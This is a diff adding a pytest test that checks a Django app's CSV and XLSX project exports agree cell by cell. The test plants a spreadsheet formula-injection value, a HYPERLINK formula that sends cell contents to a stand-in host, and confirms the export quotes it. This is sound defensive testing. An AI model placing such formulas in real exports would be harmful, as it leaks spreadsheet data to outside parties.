@@ -154,3 +154,44 @@ def test_xlsx_export_round_trips_into_an_empty_register(tmp_path):
                      stdout=StringIO())
     assert {key: comparable(key) for key in ("memberships", "projects")} == before
     assert set(Membership.objects.values_list("source_kind", flat=True)) == {"sheet"}
+
+
+PROJECT_HEADERS = ["ID", "Municipality", "Department", "Name", "Acronym", "Programme", "Role", "Lead partner",
+                   "Partners", "Status", "Start", "End", "Total budget", "Share", "External funding", "Currency",
+                   "Description", "Source", "Version"]
+
+
+@pytest.mark.django_db
+def test_csv_and_xlsx_of_projects_hold_the_same_columns_and_cells(demo, tmp_path):
+    """The two files of one export agree cell by cell, in the columns the sheet import reads; a name that a spreadsheet
+    would run as a formula is quoted in both, and dates and money stay dates and numbers in the workbook."""
+    db = Project.objects.get(name="ATELIER")
+    Project.objects.filter(pk=db.pk).update(name='=HYPERLINK("http://x/?"&A1)')
+    call_command("export", "--format", "csv", "--type", "projects", "-o", str(tmp_path / "p.csv"), stderr=StringIO())
+    call_command("export", "--format", "xlsx", "--type", "projects", "-o", str(tmp_path / "p.xlsx"),
+                 stderr=StringIO())
+    with (tmp_path / "p.csv").open(encoding="utf-8-sig", newline="") as f:
+        text = list(csv.reader(f))
+    sheet = load_workbook(tmp_path / "p.xlsx")["projects"]
+    cells = list(sheet.iter_rows(values_only=True))
+    assert text[0] == list(cells[0]) == PROJECT_HEADERS
+    assert sheet.freeze_panes == "A2" and sheet["A1"].font.b
+    assert len(text) == len(cells) == Project.objects.count() + 1
+
+    def as_text(value):
+        if isinstance(value, dt.datetime):
+            return value.date().isoformat()
+        if isinstance(value, float):
+            return f"{value:.2f}"
+        return "" if value is None else str(value)
+
+    money = {PROJECT_HEADERS.index(h) for h in ("Total budget", "Share", "External funding")}
+    for line, row in zip(text[1:], cells[1:], strict=True):
+        assert [v if i not in money or not v else f"{Decimal(v):.2f}" for i, v in enumerate(line)] == \
+            [as_text(v) for v in row]
+    atelier = next(r for r in cells if r[0] == db.pk)
+    assert atelier[PROJECT_HEADERS.index("Name")] == "'" + '=HYPERLINK("http://x/?"&A1)'
+    assert atelier[PROJECT_HEADERS.index("Start")] == dt.datetime(2019, 11, 1)
+    assert Decimal(str(atelier[PROJECT_HEADERS.index("External funding")])) == db.external_funding
+    assert sheet.cell(row=cells.index(atelier) + 1, column=PROJECT_HEADERS.index("External funding") + 1) \
+        .number_format == "#,##0.00"
